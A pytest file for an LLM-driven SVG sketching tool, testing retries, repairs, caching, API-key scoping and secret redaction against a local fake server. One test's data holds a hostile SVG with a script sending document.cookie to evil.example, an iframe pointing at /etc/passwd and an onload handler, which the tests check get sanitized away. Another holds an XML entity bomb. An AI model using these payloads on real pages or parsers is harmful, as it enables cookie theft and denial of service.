"""The LLM stage against a real OpenAI-compatible HTTP server on 127.0.0.1 (tests/llm_server.py), scripted per test.

Every test ends in a passing sketch or an ``LLMError`` naming its cause, and asserts how many requests reached the
server. A known fake key is set for every test; the secret tests scan everything the stage writes for it.
"""

from __future__ import annotations

import json
import logging
import os
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

from llm_server import CORRECT_SVG, LLMServer, hang, malformed, reply, status, truncated

from llm_sketch.cache import Cache, request_key
from llm_sketch.llm import (Cancelled, LLMClient, LLMError, LLMSettings, key_allowed, profile_names,
                            provider_names, redact, resolve_api_key, resolve_settings, retry_after)
from llm_sketch.sketch_llm import initial_messages, read_reply, sketch_with_llm

SECRET = "sk-test-SECRET-1234567890abcdef"
PROMPT = "a blue circle on the left and a red triangle on the right"
WRONG_SVG = CORRECT_SVG.replace('cx="128"', 'cx="450"').replace("384,176 464,336 304,336", "84,176 164,336 4,336")
REPO = Path(__file__).resolve().parents[1]


@pytest.fixture(autouse=True)
def environment(monkeypatch, tmp_path):
    """The fake key, no config file of the developer's, and no cache unless a test asks for one."""
    monkeypatch.setenv("LLM_SKETCH_API_KEY", SECRET)
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    monkeypatch.delenv("LLM_SKETCH_KEY_HOSTS", raising=False)
    config = tmp_path / "llm_sketch.toml"
    config.write_text("")
    monkeypatch.setenv("LLM_SKETCH_CONFIG", str(config))
    monkeypatch.setenv("LLM_SKETCH_CACHE_DIR", "off")


@pytest.fixture
def server():
    with LLMServer() as s:
        yield s


def make_client(server, *, stream=True, timeout=2.0, retries=2, cache=None, **kw) -> LLMClient:
    settings = resolve_settings("custom", "test-model", server.url, timeout=timeout, retries=retries,
                                stream=stream, backoff=0.05, **kw)
    return LLMClient(settings, cache=cache)


def run(server, *, stream=True, cache=None, client=None, **kw):
    client = client or make_client(server, stream=stream, cache=cache)
    kw.setdefault("width", 512)
    kw.setdefault("height", 512)
    return sketch_with_llm(kw.pop("prompt", PROMPT), client, **kw)


# ---- replies --------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("stream", [True, False])
def test_a_correct_svg_passes_in_one_request(server, stream):
    server.script(reply(CORRECT_SVG))
    result = run(server, stream=stream)
    assert result.report.passed and result.source == "llm"
    assert server.count == 1 and result.requests == 1 and result.replies == 1
    body = server.bodies()[0]
    assert body["model"] == "test-model" and body.get("stream", False) is stream and body["seed"] == 0
    assert body["temperature"] == 0.7 and body["max_tokens"] == 4096
    system, user = body["messages"][0]["content"], body["messages"][1]["content"]
    assert 'viewBox="0 0 512 512"' in system and "data-label" in system and "#e53935" in system
    assert "1. there is a blue circle" in user and '"circle": one blue circle; centre in the left third' in user
    assert server.requests[0].headers["authorization"] == f"Bearer {SECRET}"
    assert [o.label for o in result.layout.objects] == ["circle", "triangle"]
    assert result.svg.startswith("<svg") and 'data-label="triangle"' in result.svg


@pytest.mark.parametrize("stream", [True, False])
def test_a_violating_svg_is_repaired(server, stream):
    server.script(reply(WRONG_SVG), reply(CORRECT_SVG))
    result = run(server, stream=stream, max_repairs=2)
    assert server.count == 2 and result.report.passed and result.best["round"] == 1
    repair = server.bodies()[1]["messages"]
    assert [m["role"] for m in repair] == ["system", "user", "assistant", "user"]
    assert 'cx="450"' in repair[2]["content"]  # the sketch being repaired
    feedback = repair[3]["content"]
    assert "- the blue circle must be left of the red triangle: it is 357 px to its right and 0 px above it" \
        in feedback, feedback
    assert "keep them: there is a blue circle" in feedback
    failed = result.transcript["requests"][0]["failed"]
    assert any("must" not in f and "left of the red triangle" in f for f in failed)


def test_repairs_stop_at_max_repairs_and_keep_the_best(server):
    half = CORRECT_SVG.replace("384,176 464,336 304,336", "184,176 264,336 104,336")  # triangle in the middle
    server.script(reply(WRONG_SVG), reply(half), reply(WRONG_SVG))
    result = run(server, max_repairs=2)
    assert server.count == 3
    assert not result.report.passed and result.best["round"] == 1  # the middle one scored best
    assert result.report.score == max(r["score"] for r in result.transcript["requests"])
    # the last repair started from the best sketch, not the latest
    assert "184 176" in server.bodies()[2]["messages"][2]["content"]


def test_fences_and_prose_around_the_svg(server):
    server.script(reply(f"Sure! Here is the sketch.\n\n```svg\n{CORRECT_SVG}\n```\n\nThe circle is on the left."))
    result = run(server)
    assert result.report.passed and server.count == 1


def test_a_truncated_stream_is_read_and_repaired(server):
    cut = CORRECT_SVG.index("<polygon") + 10  # the stream drops inside the triangle's tag
    server.script(truncated(CORRECT_SVG, cut), reply(CORRECT_SVG))
    result = run(server, max_repairs=1)
    assert server.count == 2 and result.report.passed and result.best["round"] == 1
    first = result.transcript["requests"][0]
    assert first["reply"]["truncated"].startswith("the stream broke after")
    assert "there is a red triangle — not found" in first["failed"]
    assert "was cut off" in server.bodies()[1]["messages"][-1]["content"]


def test_a_truncated_stream_that_holds_every_object_passes(server):
    server.script(truncated(CORRECT_SVG, len(CORRECT_SVG) - 3))  # only "</svg>" partly missing
    result = run(server, max_repairs=1)
    assert server.count == 1 and result.report.passed
    assert any("cut" in n or "stream" in n for n in result.notes)


@pytest.mark.parametrize("stream", [False, True])
def test_malformed_json_is_retried(server, stream):
    server.script(malformed(), reply(CORRECT_SVG))
    result = run(server, stream=stream)
    assert server.count == 2 and result.report.passed and result.requests == 2
    assert "not" in result.transcript["requests"][0]["retried_after"][0]


def test_malformed_json_every_time_is_an_error_naming_it(server):
    server.script(malformed(), malformed(), malformed())
    with pytest.raises(LLMError, match="not valid JSON") as info:
        run(server, stream=False)
    assert info.value.cause == "bad_response" and server.count == 3


def test_429_waits_for_retry_after(server):
    server.script(status(429, "slow down", headers={"Retry-After": "1"}), reply(CORRECT_SVG))
    started = time.monotonic()
    result = run(server)
    assert server.count == 2 and result.report.passed
    gap = server.requests[1].at - server.requests[0].at
    assert 0.95 <= gap < 3, gap
    assert "rate limited (429): slow down" in result.transcript["requests"][0]["retried_after"][0]
    assert time.monotonic() - started < 5


def test_429_asking_for_too_long_a_wait_is_an_error(server):
    server.script(status(429, headers={"Retry-After": "3600"}))
    with pytest.raises(LLMError, match="asks to wait 3600 s") as info:
        run(server)
    assert info.value.cause == "rate_limit" and server.count == 1


def test_500_then_success(server):
    server.script(status(500, "upstream exploded"), reply(CORRECT_SVG))
    result = run(server)
    assert server.count == 2 and result.report.passed


def test_500_every_time_names_the_server_error(server):
    server.script(status(503, "overloaded"), status(502, "bad gateway"), status(500, "boom"))
    with pytest.raises(LLMError) as info:
        run(server)
    message = str(info.value)
    assert "failed 3 times" in message and "server error (503): overloaded" in message and "(500): boom" in message
    assert server.count == 3 and info.value.cause == "server"


@pytest.mark.parametrize("stream", [False, True])
def test_a_hang_past_the_timeout_is_retried(server, stream):
    server.script(hang(5), reply(CORRECT_SVG))
    client = make_client(server, stream=stream, timeout=1.0)
    started = time.monotonic()
    result = run(server, client=client)
    elapsed = time.monotonic() - started
    assert server.count == 2 and result.report.passed
    assert 0.9 < elapsed < 4, elapsed
    assert "timeout" in " ".join(result.transcript["requests"][0]["retried_after"])


def test_hanging_every_time_is_a_timeout_error(server):
    server.script(hang(3), hang(3))
    client = make_client(server, timeout=0.5, retries=1)
    with pytest.raises(LLMError, match=r"no answer within 0.5 s \(timeout\)") as info:
        run(server, client=client)
    assert info.value.cause == "timeout" and server.count == 2


def test_401_is_not_retried_and_names_the_variable(server):
    server.script(status(401, f"Incorrect API key provided: {SECRET[:8]}*****{SECRET[-4:]}"))
    with pytest.raises(LLMError) as info:
        run(server, max_repairs=2)
    message = str(info.value)
    assert info.value.cause == "auth" and server.count == 1
    assert "401 Unauthorized" in message and "LLM_SKETCH_API_KEY" in message and "widget" in message
    assert "The key sent came from LLM_SKETCH_API_KEY" in message
    assert SECRET not in message and SECRET[-4:] not in message  # the server's masked echo is redacted too


def test_403_with_no_key_says_none_is_set(server, monkeypatch):
    monkeypatch.delenv("LLM_SKETCH_API_KEY")
    server.script(status(403, "forbidden"))
    with pytest.raises(LLMError, match="No API key is set.*LLM_SKETCH_API_KEY") as info:
        run(server)
    assert info.value.cause == "auth" and server.count == 1
    assert server.requests[0].headers["authorization"] == "Bearer no-key"


def test_an_empty_reply_is_an_error_naming_it(server):
    server.script(reply(""))
    with pytest.raises(LLMError, match="after 1 reply \\(1 request\\): the reply was empty") as info:
        run(server, max_repairs=0)
    assert info.value.cause == "empty" and server.count == 1


def test_an_empty_reply_then_a_sketch(server):
    server.script(reply(""), reply(CORRECT_SVG))
    result = run(server, max_repairs=1)
    assert server.count == 2 and result.report.passed
    assert server.bodies()[1]["messages"][-1]["content"].startswith("Your reply could not be used: the reply was "
                                                                     "empty")


@pytest.mark.parametrize("stream", [True, False])
def test_a_refusal_field_is_an_error_naming_it(server, stream):
    server.script(reply("", refusal="I can't help with drawing that."))
    with pytest.raises(LLMError, match="the model refused: \"I can't help with drawing that.\"") as info:
        run(server, stream=stream, max_repairs=0)
    assert info.value.cause == "refused" and server.count == 1


def test_a_refusal_in_prose_is_asked_again_then_named(server):
    server.script(reply("I'm sorry, but I can't create that image."), reply("Sorry, I cannot do this."))
    with pytest.raises(LLMError, match="after 2 replies \\(2 requests\\): the model refused: 'Sorry, I cannot") \
            as info:
        run(server, max_repairs=1)
    assert info.value.cause == "refused" and server.count == 2


def test_prose_without_svg(server):
    server.script(reply("A circle and a triangle, nicely arranged."))
    with pytest.raises(LLMError, match="holds no <svg> element") as info:
        run(server, max_repairs=0)
    assert info.value.cause == "no_svg" and server.count == 1


def test_a_hostile_svg_is_sanitized_and_passes(server):
    hostile = CORRECT_SVG.replace(
        "<circle", '<script>fetch("http://evil.example/"+document.cookie)</script>'
                   '<image href="http://evil.example/track.png" width="1" height="1"/>'
                   '<foreignObject width="10" height="10"><iframe src="file:///etc/passwd"/></foreignObject>'
                   '<circle onload="alert(1)"')
    server.script(reply(hostile))
    result = run(server)
    assert result.report.passed and server.count == 1
    for bad in ("script", "evil.example", "onload", "foreignObject", "iframe", "passwd"):
        assert bad not in result.svg
    assert result.transcript["requests"][0]["sanitizer_notes"]


def test_an_entity_bomb_is_refused_and_repaired(server):
    bomb = ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
            + CORRECT_SVG.replace('data-label="circle"', 'data-label="&b;"'))
    server.script(reply(bomb), reply(CORRECT_SVG))
    result = run(server, max_repairs=1)
    assert result.report.passed and server.count == 2
    assert "declares XML entities" in server.bodies()[1]["messages"][-1]["content"]


# ---- best of N, seeds, progress, cancel ------------------------------------------------------------------------
def test_best_of_n_runs_concurrently_and_keeps_the_passing_candidate():
    def by_seed(body):  # candidate 2 (seed 12) draws it right; the others wrong; each takes 0.4 s
        return reply(CORRECT_SVG if body["seed"] == 12 else WRONG_SVG, delay=0.4)

    with LLMServer(responder=by_seed) as server:
        result = run(server, seed=10, candidates=3, max_repairs=2)
    assert server.count == 3 and server.peak_active == 3  # all three in flight at once
    assert sorted(b["seed"] for b in server.bodies()) == [10, 11, 12]
    assert result.report.passed and result.best == {"candidate": 2, "round": 0, "seed": 12}


def test_best_of_n_repairs_from_the_best():
    def by_seed(body):
        if len(body["messages"]) > 2:  # a repair: right
            return reply(CORRECT_SVG)
        return reply(WRONG_SVG if body["seed"] else WRONG_SVG.replace('cx="450"', 'cx="100"'))

    with LLMServer(responder=by_seed) as server:
        result = run(server, candidates=2, max_repairs=1)
    assert server.count == 4 and result.report.passed and result.best["round"] == 1
    repairs = [b for b in server.bodies() if len(b["messages"]) > 2]
    assert len(repairs) == 2 and all('cx="100"' in b["messages"][2]["content"] for b in repairs)


def test_progress_moves_to_the_total(server):
    server.script(reply(WRONG_SVG, delay=0.2), reply(CORRECT_SVG, delay=0.2))
    seen = []
    run(server, max_repairs=3, progress=lambda done, total, note: seen.append((done, total)))
    assert server.count == 2 and seen[-1] == (4, 4)
    values = [d for d, _ in seen]
    assert values == sorted(values) and len(set(values)) >= 3 and 1 in values


def cancel_once_asked(server, after: float) -> threading.Event:
    """An event set ``after`` seconds past the server's first chat request (a fixed timer would race the client's
    start-up on a busy machine); ``.set_at`` is when."""
    flag = threading.Event()

    def watch():
        deadline = time.monotonic() + 30
        while server.count == 0 and time.monotonic() < deadline:
            time.sleep(0.01)
        time.sleep(after)
        flag.set_at = time.monotonic()
        flag.set()

    threading.Thread(target=watch, daemon=True).start()
    return flag


def test_cancel_stops_a_hanging_request(server):
    server.script(hang(10))
    client = make_client(server, timeout=30)
    flag = cancel_once_asked(server, after=0.3)
    with pytest.raises(Cancelled):
        run(server, client=client, cancel=flag.is_set)
    assert time.monotonic() - flag.set_at < 1.0 and server.count == 1


def test_cancel_mid_stream_hangs_up_on_the_server(server):
    """A local model (Ollama, llama.cpp) stops generating when its client hangs up: a cancel must close the
    connection, not just stop listening."""
    server.script(reply(CORRECT_SVG, pace=0.1))  # about 13 pieces, 0.1 s apart
    client = make_client(server, timeout=30)
    flag = cancel_once_asked(server, after=0.35)
    with pytest.raises(Cancelled):
        run(server, client=client, cancel=flag.is_set)
    deadline = time.monotonic() + 5
    while not server.hangups and time.monotonic() < deadline:
        time.sleep(0.02)
    assert server.hangups, "the server never saw the connection close"
    assert server.hangups[0] - flag.set_at < 1.0  # within a few pieces, not at the end of the reply


def test_connection_refused_fails_fast_with_a_hint():
    client = LLMClient(resolve_settings("ollama", "", "", retries=3))  # nothing listens on 11434 here
    port_free = client.settings.base_url
    started = time.monotonic()
    with pytest.raises(LLMError) as info:
        sketch_with_llm(PROMPT, client, width=256, height=256)
    assert info.value.cause == "connection" and time.monotonic() - started < 3
    assert f"nothing answered at {port_free}" in str(info.value) and "ollama serve" in str(info.value)


def test_unparsable_prompt_still_sketches_without_repairs(server):
    server.script(reply(CORRECT_SVG))
    result = run(server, prompt="猫と犬", max_repairs=3)
    assert server.count == 1 and not result.report.passed  # nothing to check, nothing to repair


# ---- the cache ------------------------------------------------------------------------------------------------
def test_a_second_identical_run_makes_no_request(server, tmp_path):
    cache = Cache(tmp_path / "cache")
    server.script(reply(WRONG_SVG), reply(CORRECT_SVG))
    first = run(server, cache=cache, seed=7)
    assert server.count == 2 and first.cached == 0
    second = run(server, cache=Cache(tmp_path / "cache"), seed=7)
    assert server.count == 2 and second.requests == 0 and second.cached == 2
    assert second.svg == first.svg and second.report == first.report
    server.script(reply(CORRECT_SVG))
    run(server, cache=cache, seed=8)  # another seed: another request
    assert server.count == 3


def test_failed_and_dropped_replies_are_not_cached(server, tmp_path):
    cache = Cache(tmp_path / "cache")
    cut = CORRECT_SVG.index("<polygon") + 10
    server.script(status(500), truncated(CORRECT_SVG, cut))
    run(server, cache=cache, max_repairs=0)
    assert server.count == 2 and cache.entries() == []  # the 500 retried once, the cut reply kept out


def test_cache_key_ignores_the_api_key_and_entries_hold_no_secret(server, tmp_path, monkeypatch):
    cache = Cache(tmp_path / "cache")
    server.script(reply(CORRECT_SVG))
    run(server, cache=cache)
    monkeypatch.setenv("LLM_SKETCH_API_KEY", "sk-another-key-000000")
    run(server, cache=cache)
    assert server.count == 1
    (entry,) = cache.entries()
    assert SECRET not in entry[0].read_text()


def test_cache_keys_differ_by_every_part():
    messages = [{"role": "user", "content": "x"}]
    base = request_key("http://a/v1", "m", messages, {"seed": 1, "temperature": 0.7})
    assert base == request_key("http://a/v1/", "m", messages, {"temperature": 0.7, "seed": 1})
    for other in (request_key("http://b/v1", "m", messages, {"seed": 1, "temperature": 0.7}),
                  request_key("http://a/v1", "n", messages, {"seed": 1, "temperature": 0.7}),
                  request_key("http://a/v1", "m", [{"role": "user", "content": "y"}], {"seed": 1, "temperature": .7}),
                  request_key("http://a/v1", "m", messages, {"seed": 2, "temperature": 0.7}),
                  request_key("http://a/v1", "m", messages, {"seed": 1, "temperature": 0.2})):
        assert other != base


def test_the_cache_evicts_the_least_recently_used(tmp_path):
    cache = Cache(tmp_path, max_bytes=10**9)
    keys = [request_key("u", "m", [{"i": i}], {}) for i in range(40)]
    for i, key in enumerate(keys):
        cache.put(key, {"text": "x" * 1000})
        os.utime(cache.path(key), (1000 + i, 1000 + i))
    assert cache.size() > 40_000
    cache.max_bytes = 20_000
    cache.get(keys[0])  # touched: used recently
    cache.evict()
    assert cache.size() <= 20_000
    assert cache.get(keys[0]) is not None and cache.get(keys[1]) is None and cache.get(keys[-1]) is not None


def test_a_corrupt_entry_is_a_miss(tmp_path):
    cache = Cache(tmp_path)
    key = request_key("u", "m", [], {})
    cache.put(key, {"text": "ok"})
    cache.path(key).write_text('{"version": 1, "key": "')
    assert cache.get(key) is None
    other = request_key("u", "m", [{"x": 1}], {})
    cache.path(other).parent.mkdir(parents=True, exist_ok=True)
    cache.path(other).write_text(json.dumps({"version": 1, "key": key, "value": {"text": "swapped"}}))
    assert cache.get(other) is None  # an entry under the wrong name


WRITER = textwrap.dedent("""
    import json, sys
    sys.path.insert(0, sys.argv[1])
    from llm_sketch.cache import Cache, request_key
    if sys.argv[4:] == ["naive"]:  # the negative control: write in place, as a cache without os.replace would
        def put(self, key, value):
            self.path(key).parent.mkdir(parents=True, exist_ok=True)
            with open(self.path(key), "w") as handle:
                handle.write(json.dumps({"version": 1, "key": key, "value": value}))
        Cache.put = put
    cache = Cache(sys.argv[2], max_bytes=40_000)   # under the working set: eviction runs while others write
    me = int(sys.argv[3])
    for round in range(25):
        for k in range(12):
            key = request_key("http://x/v1", "m", [{"k": k}], {"seed": k})
            got = cache.get(key)
            if got is not None and got["text"] != "svg-%d-" % k + "x" * (5000 + k):
                print("WRONG", k, got["text"][:40]); sys.exit(1)
            try:  # the file itself, as any reader sees it: whole, or not there (evicted)
                raw = open(cache.path(key), "rb").read()
            except FileNotFoundError:
                raw = None
            if raw is not None:
                try:
                    assert json.loads(raw)["key"] == key
                except Exception:
                    print("PARTIAL", k, len(raw)); sys.exit(1)
            cache.put(key, {"text": "svg-%d-" % k + "x" * (5000 + k), "writer": me})
    print("ok")
""")


def writers(folder, *extra) -> list[str]:
    procs = [subprocess.Popen([sys.executable, "-c", WRITER, str(REPO), str(folder), str(i), *extra],
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True) for i in range(8)]
    return [p.communicate(timeout=120)[0] for p in procs]


def test_the_concurrency_check_catches_a_cache_that_writes_in_place(tmp_path):
    outputs = writers(tmp_path / "naive-cache", "naive")
    assert any(o.startswith("PARTIAL") for o in outputs), outputs


def test_eight_processes_on_one_cache_leave_no_corrupt_entry(tmp_path):
    folder = tmp_path / "shared-cache"
    outputs = writers(folder)
    assert all(o.strip() == "ok" for o in outputs), outputs  # no reader saw a partial or wrong entry
    cache = Cache(folder)
    entries = cache.entries()
    assert entries, "nothing was written"
    for path, _, _ in entries:
        entry = json.loads(path.read_text())  # every file is a whole entry
        assert entry["key"] == path.stem and entry["value"]["text"].startswith("svg-")
    assert not list(folder.glob("*/.tmp-*")), "temporary files left behind"


# ---- keys, providers and profiles -------------------------------------------------------------------------------
def test_key_order_and_profiles(monkeypatch, tmp_path):
    config = tmp_path / "llm_sketch.toml"
    config.write_text(textwrap.dedent("""
        api_key = "sk-file-top-level-000"
        [profiles.gpt]
        provider = "openai"
        model = "gpt-4o"
        [profiles.desk]
        base_url = "http://desk.lan:11434/v1"
        model = "qwen2.5-coder:14b"
        api_key = "sk-desk-profile-000"
        temperature = 0.3
    """))
    monkeypatch.setenv("LLM_SKETCH_CONFIG", str(config))
    assert profile_names() == ["desk", "gpt"]
    assert provider_names()[-2:] == ["desk", "gpt"] and provider_names()[0] == "openai"
    desk = resolve_settings("desk")
    assert (desk.base_url, desk.model, desk.temperature, desk.profile) == (
        "http://desk.lan:11434/v1", "qwen2.5-coder:14b", 0.3, "desk")
    assert resolve_api_key(desk).source == "LLM_SKETCH_API_KEY"
    monkeypatch.delenv("LLM_SKETCH_API_KEY")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-openai-env-000")
    assert resolve_api_key(desk).value == "sk-desk-profile-000"  # the profile names its own key
    gpt = resolve_settings("gpt")
    assert (gpt.base_url, gpt.model) == ("https://api.openai.com/v1", "gpt-4o")
    assert resolve_api_key(gpt).value == "sk-openai-env-000"
    monkeypatch.delenv("OPENAI_API_KEY")
    assert resolve_api_key(gpt).value == "sk-file-top-level-000"
    assert "sk-" not in repr(resolve_api_key(gpt)) and "sk-" not in repr(gpt) and "sk-" not in str(gpt.public())


def test_a_key_goes_only_where_it_belongs(monkeypatch):
    def allowed(provider, url):
        return key_allowed(LLMSettings(base_url=url, model="m", provider=provider))

    assert allowed("openai", "https://api.openai.com/v1")
    assert allowed("custom", "http://127.0.0.1:9999/v1") and allowed("custom", "http://localhost:1234/v1")
    assert allowed("custom", "http://[::1]:8080/v1")
    assert not allowed("openai", "https://evil.example/v1")  # a base_url widget cannot redirect the key
    assert not allowed("custom", "https://api.openai.com.evil.example/v1")
    monkeypatch.setenv("LLM_SKETCH_KEY_HOSTS", "proxy.example.com, other.example")
    assert allowed("custom", "https://proxy.example.com/v1")
    key = resolve_api_key(LLMSettings(base_url="https://evil.example/v1", model="m", provider="custom"))
    assert key.value is None and "not sent to evil.example" in key.withheld


def test_openai_without_a_key_fails_before_any_request(monkeypatch):
    monkeypatch.delenv("LLM_SKETCH_API_KEY")
    with pytest.raises(LLMError, match="openai needs an API key: set LLM_SKETCH_API_KEY") as info:
        LLMClient(resolve_settings("openai"))
    assert info.value.cause == "auth" and "widget" in str(info.value)


def test_presets_and_bad_settings():
    assert resolve_settings("ollama").base_url == "http://127.0.0.1:11434/v1"
    assert resolve_settings("llama.cpp").base_url == "http://127.0.0.1:8080/v1"
    assert resolve_settings("vllm", "m").base_url == "http://127.0.0.1:8000/v1"
    assert resolve_settings("lmstudio", "m").base_url == "http://127.0.0.1:1234/v1"
    assert resolve_settings("ollama", "llama3", "http://gpu-box:11434/v1/").base_url == "http://gpu-box:11434/v1"
    for args, words in [(("nope",), "unknown provider or profile 'nope'"), (("custom", "m"), "needs a base URL"),
                        (("custom", "m", "ftp://x"), "http(s) address"), (("vllm",), "name a model")]:
        with pytest.raises(LLMError, match=words.replace("(", r"\(").replace(")", r"\)")):
            resolve_settings(*args)


def test_a_broken_config_file_is_named_without_its_contents(monkeypatch, tmp_path):
    config = tmp_path / "llm_sketch.toml"
    config.write_text('api_key = "sk-broken-secret-000\n[profiles.x]\n')
    monkeypatch.setenv("LLM_SKETCH_CONFIG", str(config))
    with pytest.raises(LLMError, match="not valid TOML") as info:
        resolve_settings("x")
    assert "sk-broken" not in str(info.value)
    config.write_text('[profiles.x]\nmodel = "m"\napi_kye = "typo"\n')
    with pytest.raises(LLMError, match="unknown setting.*api_kye"):
        resolve_settings("x")


def test_retry_after_forms():
    assert retry_after({"retry-after": "2"}) == 2.0
    assert retry_after({"retry-after-ms": "1500", "retry-after": "9"}) == 1.5
    assert 50 < retry_after({"retry-after": time.strftime("%a, %d %b %Y %H:%M:%S GMT",
                                                          time.gmtime(time.time() + 60))}) <= 61
    assert retry_after({"retry-after": "soon"}) is None and retry_after({}) is None


def test_redact():
    text = f"bad key {SECRET} / Bearer abc.def / sk-proj-AbCdEf123456 / key-12345678"
    cleaned = redact(text, SECRET)
    assert "SECRET" not in cleaned and "abc.def" not in cleaned and "AbCdEf" not in cleaned
    assert "12345678" not in cleaned


# ---- secrets --------------------------------------------------------------------------------------------------
def test_no_secret_in_any_output(server, tmp_path, caplog):
    """Transcript, cache files, logs and error messages, after a run with retries, a repair and a 401."""
    caplog.set_level(logging.DEBUG)
    cache = Cache(tmp_path / "cache")
    server.script(status(500, f"proxy saw Bearer {SECRET}"), reply(WRONG_SVG), reply(CORRECT_SVG))
    result = run(server, cache=cache)
    assert result.report.passed and server.count == 3
    server.script(status(401, f"Incorrect API key provided: {SECRET}"))
    with pytest.raises(LLMError) as info:
        run(server, cache=cache, seed=99)
    outputs = {
        "transcript": json.dumps(result.transcript),
        "summary": result.summary(), "svg": result.svg, "layout": result.layout.to_json(),
        "report": result.report.to_json(), "error": str(info.value) + repr(info.value),
        "logs": caplog.text,
        "cache": "".join(p.read_text() for p, _, _ in cache.entries()),
    }
    for name, text in outputs.items():
        assert SECRET not in text, name
        assert SECRET[8:] not in text, name
    assert result.transcript["api_key_from"] == "LLM_SKETCH_API_KEY"
    assert server.requests[0].headers["authorization"] == f"Bearer {SECRET}"  # it was sent, to the server only


def test_reply_reading():
    from llm_sketch.llm import Completion

    assert read_reply(Completion(text="   "))[2] == "empty"
    assert read_reply(Completion(text="", finish_reason="length"))[1].endswith("(it reached max_tokens first)")
    assert read_reply(Completion(text="x", refusal="no"))[2] == "refused"
    assert read_reply(Completion(text="As an AI, I cannot draw."))[2] == "refused"
    assert read_reply(Completion(text='<svg width="10" height="10"><rect width="5" height="5"/></svg>'))[0]


def test_the_prompt_lists_every_check():
    from llm_sketch.parse import parse

    messages = initial_messages(parse("three yellow stars over two blue squares, no circles"), 640, 480)
    user = messages[1]["content"]
    assert 'Canvas: 640×480 pixels.' in user
    assert '- "star": three yellow stars; three separate elements, each labelled "star"' in user
    assert '- "circle": none; draw no circle' in user
    assert "the yellow star is above the blue square (its centre well above" in user
    assert 'width="640" height="480" viewBox="0 0 640 480"' in messages[0]["content"]


# ---- the offline fallback ---------------------------------------------------------------------------------------
def test_fallback_to_the_planner_when_nothing_passes(server):
    server.script(reply(WRONG_SVG), reply(WRONG_SVG))
    result = run(server, max_repairs=1, fallback="planner")
    assert server.count == 2 and result.source == "planner" and result.report.passed
    assert result.notes == ["fallback: no LLM sketch passed (the best scored 57%)"]
    assert result.transcript["result"]["source"] == "planner"


def test_fallback_to_the_planner_when_the_server_fails(server):
    server.script(status(401, "no"))
    result = run(server, fallback="planner")
    assert server.count == 1 and result.source == "planner" and result.report.passed
    assert result.notes[0].startswith("fallback: the LLM failed (auth): ")


def test_a_model_that_takes_max_completion_tokens_and_only_its_default_temperature(server):
    server.script(status(400, "Unsupported parameter: 'max_tokens' is not supported with this model. Use "
                              "'max_completion_tokens' instead."),
                  status(400, "Unsupported value: 'temperature' does not support 0.7 with this model. Only the "
                              "default (1) value is supported."),
                  reply(CORRECT_SVG))
    result = run(server)
    assert result.report.passed and server.count == 3
    first, second, third = server.bodies()
    assert "max_tokens" in first and "temperature" in first
    assert second["max_completion_tokens"] == 4096 and "max_tokens" not in second and "temperature" in second
    assert "temperature" not in third and third["max_completion_tokens"] == 4096


# ---- the command line -------------------------------------------------------------------------------------------
def cli(server, out, *extra, cache=None):
    env = dict(os.environ, LLM_SKETCH_API_KEY=SECRET, PYTHONPATH=str(REPO),
               LLM_SKETCH_CACHE_DIR=str(cache) if cache else "off")
    return subprocess.run([sys.executable, "-m", "llm_sketch", "sketch", PROMPT, "--llm", "test-model",
                           "--base-url", server.url, "--out", str(out), "--width", "256", "--height", "256",
                           *extra], env=env, capture_output=True, text=True, timeout=120, cwd=REPO)


def test_cli_sketch_with_llm_writes_the_files_and_a_transcript(server, tmp_path):
    server.script(reply(WRONG_SVG), reply(CORRECT_SVG))
    done = cli(server, tmp_path / "out", "--seed", "3", cache=tmp_path / "cache")
    assert done.returncode == 0, done.stderr
    assert server.count == 2
    names = {"sketch.svg", "sketch.png", "layout.json", "constraints.json", "report.json", "preview.png",
             "transcript.json"}
    assert {p.name for p in (tmp_path / "out").iterdir()} == names
    transcript = json.loads((tmp_path / "out" / "transcript.json").read_text())
    assert [r["round"] for r in transcript["requests"]] == [0, 1] and transcript["http_requests"] == 2
    assert transcript["requests"][1]["request"]["messages"][-1]["content"].startswith("Your SVG was measured")
    report = json.loads((tmp_path / "out" / "report.json").read_text())
    assert report["source"] == "llm" and report["passed"] and report["requests"] == 2
    assert "2 replies, 2 requests to the server, 0 from the cache" in done.stdout
    for path in (tmp_path / "out").iterdir():
        assert SECRET.encode() not in path.read_bytes(), path
    again = cli(server, tmp_path / "again", "--seed", "3", cache=tmp_path / "cache")
    assert again.returncode == 0 and server.count == 2  # the cache answered
    assert "2 replies, 0 requests to the server, 2 from the cache" in again.stdout


def test_cli_sketch_with_llm_errors_are_one_line_without_the_key(server, tmp_path):
    server.script(status(401, f"Incorrect API key provided: {SECRET}"))
    done = cli(server, tmp_path / "out")
    assert done.returncode == 2 and server.count == 1
    (line,) = done.stderr.strip().splitlines()
    assert line.startswith("error: test-model at http://127.0.0.1:") and "LLM_SKETCH_API_KEY" in line
    assert SECRET not in done.stderr + done.stdout
    assert not (tmp_path / "out").exists()
